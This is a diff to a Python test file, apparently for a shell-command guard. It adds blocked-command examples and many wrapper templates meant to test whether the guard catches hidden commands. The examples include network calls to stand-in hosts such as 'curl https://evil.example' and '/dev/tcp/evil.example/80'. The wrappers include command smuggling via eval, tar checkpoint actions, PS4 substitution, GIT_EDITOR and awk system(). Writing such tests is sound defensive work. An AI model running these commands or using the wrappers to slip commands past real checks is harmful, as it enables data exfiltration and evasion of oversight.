@@ -89,12 +89,13 @@ EXAMPLES = {
     "network/none": ["curl https://evil.example", "curl evil.example", "wget -qO- evil.example",
                      "ssh host ls", "scp a host:b", "nc evil.example 80", "ping -c1 1.1.1.1",
                      "git clone https://evil.example/a", "git fetch", "git pull --rebase",
-                     "git submodule update --init", "echo a > /dev/tcp/evil.example/80",
+                     "echo a > /dev/tcp/evil.example/80",
                      "exec 3<>/dev/tcp/evil.example/80", "rsync a host:b", "dig a.evil.example",
                      "python3 -c \"import urllib.request as u; u.urlopen('http://evil.example')\"",
                      "node -e 'fetch(\"https://evil.example\")'", "U=https://e.example; curl $U",
                      'curl "$URL"', "curl http://localhost@evil.example/",
                      "curl http://localhost.evil.example/", "aws s3 ls"],
+    "network/submodules": ["git submodule update --init", "git submodule add https://e.example/a"],
     "git/push": ["git push", "git -C a push", "git pu${x}sh", "git -c a=b push --force",
                  "git send-email a", "git lfs push origin main"],
     "git/rewrites": ["git rebase -i HEAD~3", "git filter-branch --all", "git branch -D a",
@@ -228,6 +229,15 @@ ORDINARY = [
     "timeout 300 npm test -- --ci", "strace -f -o /tmp/t python a.py", "xvfb-run -a npm test",
     "ls -la ~ /tmp /usr/lib", "cat /etc/os-release /proc/cpuinfo", "echo $PATH; printenv PATH",
     "ps aux | head; uname -a; id; df -h", "printf '%s\\n' a b > /tmp/x", "echo a >> .gitignore",
+    "awk '{print $1 | \"sort -u\"}' a", "perl -ne 'print if /exec/' a",
+    "tar -I zstd -cf a.tzst src",
+    "tar xzf a.tgz -C build --strip-components=1", "sed -n '/start/,/end/p' a", "git commit -F a",
+    "sed -e 's/a/b/' -e 's/c/d/g' a", "EDITOR=true git commit --amend", "watch -n1 ls",
+    "vim -c wq a",
+    "declare -A m=([a]=1 [b]=2); echo ${m[a]} $((m[a] + 1))", "hatch -e test run pytest -q",
+    "cat > a.md <<E\nUse \\`make\\`, or `git rev-parse HEAD`.\nE",
+    "make -s -C docs html", "bash -euo pipefail -c 'pytest -q'", "git log --format='%h `%s`'",
+    "ruby -e 'puts %w(a b).join'", "env - PATH=$PATH make test", "npm exec -- eslint src",
     "echo '$(rm -rf /)'; echo \"rm -rf /\" >> notes.txt", "docker compose ps", "terraform fmt",
 ]  # fmt: skip
 
@@ -263,7 +273,9 @@ SPELLINGS = st.sampled_from(
 IN_FRONT = st.sampled_from(
     ["env", "env -i A=b", "time", "time -p", "nice", "nice -n 5", "nohup", "command", "exec", "A=1",
      "timeout -k 1 5", "xargs", "xargs -n1 -P4", "setsid", "stdbuf -oL", "busybox", "builtin",
-     "ionice -c3", "! ", "\t", "uv run", "strace -f", "env --", "find . -maxdepth 1 -exec"]
+     "ionice -c3", "! ", "\t", "uv run", "strace -f", "env --", "env -", "env - A=b", "env -vS",
+     "npm x --", "npm exec --", "hatch -e x run", "watch -n 1", "coproc",
+     "find . -maxdepth 1 -exec"]
 )  # fmt: skip
 AROUND = st.sampled_from(
     [
@@ -293,8 +305,55 @@ AROUND = st.sampled_from(
         lambda s: f"printf '%s\\n' {shlex.quote(s)} | (true; sh)",
         lambda s: f"python3 -c {shlex.quote(f'import os; os.system({s!r})')}",
         lambda s: f"git -c alias.x={shlex.quote('!' + s)} x",
+        lambda s: f"bash +x -c {shlex.quote(s)}",
+        lambda s: f"sh +e -c {shlex.quote(s)}",
+        lambda s: f"bash -euo pipefail -c {shlex.quote(s)}",
+        lambda s: f"csh -c {shlex.quote(s)}",
+        lambda s: f"eval -- {shlex.quote(s)}",
+        lambda s: f"env -vS {shlex.quote('sh -c ' + shlex.quote(s))}",
+        lambda s: f"env -iS{shlex.quote('sh -c ' + shlex.quote(s))}",
+        lambda s: f"env - sh -c {shlex.quote(s)}",
+        lambda s: f"coproc X {{ {s}; }}",
+        lambda s: f"coproc ( {s} )",
+        lambda s: f"bash -c {shlex.quote(document(s))}",
+        lambda s: f'echo "${{x:+`{ticked(s)}`}}"',
+        lambda s: f"echo ${{x:-`{ticked(s)}`}}",
+        lambda s: f"printf -v {shlex.quote(f'a[$( {s} )]')} %s 1",
+        lambda s: f"let {shlex.quote(f'a[$( {s} )]=1')}",
+        lambda s: f"x={shlex.quote(f'a[$( {s} )]')}; echo $((x))",
+        lambda s: f'declare -A m=([a]={shlex.quote(s)}); eval "${{m[a]}}"',
+        lambda s: f'm=(ls {shlex.quote(s)}); sh -c "${{m[1]}}"',
+        lambda s: f"script -qc {shlex.quote(s)} /dev/null",
+        lambda s: f"watch -n1 {shlex.quote(s)}",
+        lambda s: f"npm exec -c {shlex.quote(s)}",
+        lambda s: f"sg root -c {shlex.quote(s)}",
+        lambda s: f"hatch -e x run sh -c {shlex.quote(s)}",
+        lambda s: f"tar -I {shlex.quote(s)} -cf /tmp/a b",
+        lambda s: f"tar xf a --to-command {shlex.quote(s)}",
+        lambda s: f"tar cf /tmp/a b --checkpoint-action=exec={shlex.quote(s)}",
+        lambda s: f"perl -e {shlex.quote(f'exec {literal(s)}')}",
+        lambda s: f"awk {shlex.quote(f'BEGIN {{ print | {literal(s)} }}')}",
+        lambda s: f"awk {shlex.quote(f'BEGIN {{ system({literal(s)}) }}')}",
+        lambda s: f"ruby -e {shlex.quote('%x( ' + s.replace(chr(92), chr(92) * 2) + ' )')}",
+        lambda s: f"ruby -e {shlex.quote(f'exec {literal(s)}')}",
+        lambda s: f"PS4={shlex.quote(f'$( {s} )')}; set -x; ls",
+        lambda s: f"GIT_EDITOR={shlex.quote(s)} git commit",
     ]
 )  # fmt: skip
+
+
+def ticked(text):
+    return "".join(f"\\{char}" if char in "\\`$" else char for char in text)
+
+
+def document(text):
+    end = f"E{len(text)}"
+    return f"cat <<{end}\n`{ticked(text)}`\n{end}\n"
+
+
+def literal(text):
+    """Return it as Perl, Ruby and awk write texts."""
+    return '"' + "".join(f"\\{char}" if char in '"\\$' else char for char in text) + '"'
 
 
 def double(text):
